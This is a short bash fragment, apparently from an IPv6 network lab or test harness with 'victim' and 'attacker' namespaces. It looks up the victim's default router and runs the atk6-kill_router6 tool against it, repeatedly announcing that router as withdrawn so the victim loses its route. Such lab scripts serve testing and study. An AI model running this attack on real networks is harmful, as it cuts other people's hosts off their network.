# shellcheck shell=bash
# Somebody says in the router's name that it is no router any more (lifetime 0), again and again.
start() { local r; r=$(ns victim ip -6 route show default | sed -n 's/.*via \([0-9a-f:]*\).*/\1/p' | head -1); mark
  sbg attacker kill atk6-kill_router6 eth0 "$r" $GW_MAC; }
